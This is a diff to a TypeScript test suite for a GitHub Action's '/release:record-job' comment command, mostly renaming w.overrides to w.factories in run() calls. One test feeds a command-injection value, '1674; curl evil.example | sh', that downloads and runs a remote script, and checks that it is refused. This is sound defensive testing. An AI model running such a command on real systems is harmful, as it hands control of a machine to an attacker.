@@ -34,7 +34,7 @@ async function heldWorld(permissions: Record<string, 'read' | 'write'> = {}): Pr
 
 async function scheduled(w: World): Promise<string> {
   await using e = env(w, 'schedule', { schedule: '*/15 * * * *' });
-  await run(w.overrides);
+  await run(w.factories);
   expect(e.errors()).toEqual([]);
   return e.summary();
 }
@@ -59,7 +59,7 @@ describe('/release:record-job through the action', () => {
     const id = commentId(payload);
     {
       await using e = env(w, 'issue_comment', payload);
-      await run(w.overrides);
+      await run(w.factories);
       expect(e.errors()).toEqual([]);
     }
     expect(w.gh.reactions.map((r) => [r.comment_id, r.content])).toEqual([
@@ -99,7 +99,7 @@ describe('/release:record-job through the action', () => {
     const payload = commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1674`, user: 'mallory' });
     {
       await using e = env(w, 'issue_comment', payload);
-      await run(w.overrides);
+      await run(w.factories);
       expect(e.errors()).toEqual([]);
       expect(e.infos()).toContain('Refused the command of mallory: they have read permission, write or more is needed.');
     }
@@ -116,7 +116,7 @@ describe('/release:record-job through the action', () => {
     const before = w.gh.commits.length;
     {
       await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing "1674; curl evil.example | sh"`, user: 'alice' }));
-      await run(w.overrides);
+      await run(w.factories);
     }
     expect(w.gh.commits).toHaveLength(before);
     expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
@@ -129,11 +129,11 @@ describe('/release:record-job through the action', () => {
   it('a job recorded already is never replaced: the second comment is refused with the way out', async () => {
     {
       await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1674`, user: 'alice' }));
-      await run(w.overrides);
+      await run(w.factories);
     }
     {
       await using _e = env(w, 'issue_comment', commented(w, { body: `/release:record-job ${RELEASE} stage-testing 1675`, user: 'alice' }));
-      await run(w.overrides);
+      await run(w.factories);
     }
     expect(w.gh.reactions.map((r) => r.content)).toEqual(['eyes', '+1', 'eyes', 'confused']);
     expect(replies(w)[1]?.body).toMatch(
